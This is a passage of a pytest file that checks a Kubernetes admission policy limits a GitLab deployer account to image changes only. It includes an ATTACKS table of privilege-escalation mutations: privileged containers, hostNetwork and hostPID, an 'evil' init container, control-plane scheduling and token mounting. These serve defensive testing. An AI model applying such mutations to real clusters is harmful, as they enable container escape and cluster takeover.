    "drop-container": lambda o: o["spec"]["template"]["spec"]["containers"].pop(),
    "rename-service": _set("spec.template.spec.containers.0.name", "other"),
    "init-container": _set("spec.template.spec.initContainers", [{"name": "x", "image": "evil:1"}]),
    "host-network": _set("spec.template.spec.hostNetwork", True),
    "host-pid": _set("spec.template.spec.hostPID", True),
    "node-selector": _set("spec.template.spec.nodeSelector", {"node-role": "control-plane"}),
    "tolerations": _set("spec.template.spec.tolerations", [{"operator": "Exists"}]),
    "privileged": _set("spec.template.spec.containers.0.securityContext", {"privileged": True}),
    "token-mount": _set("spec.template.spec.automountServiceAccountToken", True),
    "removed-field": lambda o: o["spec"]["template"]["spec"].pop("automountServiceAccountToken"),
    "replicas": _set("spec.replicas", 0),
    "paused": _set("spec.paused", True),
    "template-label": _set("spec.template.metadata.labels.app", "other"),
    "template-annotation": _set("spec.template.metadata.annotations", {"kubectl.kubernetes.io/restartedAt": "x"}),
    "label": _set("metadata.labels.team", "x"),
    "other-annotation": lambda o: o["metadata"]["annotations"].update({"deployment.kubernetes.io/revision": "1"}),
    "owner": _set("metadata.ownerReferences", [{"kind": "Secret", "name": "x"}]),
    "finalizer": _set("metadata.finalizers", ["x/y"]),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_deployer_may_change_nothing_else(attack):
    new, old = deployer_patch(lambda obj: (_service_image(obj), ATTACKS[attack](obj)))
    policy = gitlab_runner.deployer_policy_spec()
    assert not cel_subset.admits(policy, DEPLOYER_REQUEST, new, old), attack
    # The policy is the deployer's only: the same change by anyone else (Pulumi, the HPA) is not its business.
    assert cel_subset.admits(policy, {"userInfo": {"username": "system:serviceaccount:ads:other"}}, new, old)


def test_the_manager_is_restricted_sized_and_scraped(with_runner):
    values = runner_values(with_runner)
    assert values["podSecurityContext"]["runAsNonRoot"] is True
    assert values["podSecurityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert values["securityContext"]["allowPrivilegeEscalation"] is False
    assert values["securityContext"]["capabilities"] == {"drop": ["ALL"]}
    assert {"cpu", "memory"} <= set(values["resources"]["requests"]) and values["resources"]["limits"]["memory"]
    assert values["metrics"]["enabled"] is True and values["metrics"]["podMonitor"] == {"enabled": True}
    assert ports(policy(with_runner, "gitlab-runner", "allow-from-monitoring")["ingress"][0]) == [9252]


def test_runner_objects_match_their_schemas(with_runner):
    mine = [r for r in validators.kubernetes_objects(with_runner)
            if (r.inputs.get("metadata") or {}).get("namespace") in (CI_NAMESPACE, "gitlab-runner")
            or r.name in ("ns-ci", "ns-gitlab-runner") or r.name.startswith("deployer-")]
    assert len(mine) >= 8
    for obj in mine:
        validators.validate_kubernetes(obj.type, obj.inputs)


# --- config errors -------------------------------------------------------------------------------------------
def test_a_runner_without_gitlab_or_its_token_is_refused():
    raw = base_raw(platform={"gitlab": {"enabled": False, "runner": {"enabled": True,
                                                                     "url": "https://gitlab.example.org"}}})
    [msg] = config_problems(raw)
    assert msg.startswith(f"adplatform:{RUNNER_TOKEN} must be set with --secret when platform.gitlab.runner "
                          "registers with another stack's GitLab")


def test_a_runner_without_gitlab_needs_a_url():
    raw = base_raw(platform={"gitlab": {"enabled": False, "runner": {"enabled": True}}})
    raw[RUNNER_TOKEN] = "glrt-x"
    assert config_problems(raw, SECRET_KEYS | {RUNNER_TOKEN}) == [
        "adplatform:platform.gitlab.runner.url must name the GitLab to register with (https://...) when this stack "
        "runs no GitLab (platform.gitlab.enabled: false)"]


def test_gitlab_without_dragonfly_is_refused():
    # (the ad services, which use DragonflyDB too, off: only GitLab's need is left to refuse)
    [msg] = config_problems(base_raw(layers={"adServices": False}, dataPlane={"dragonfly": {"enabled": False}}))
    assert msg.startswith("adplatform:platform.gitlab.enabled needs dataPlane.dragonfly.enabled")
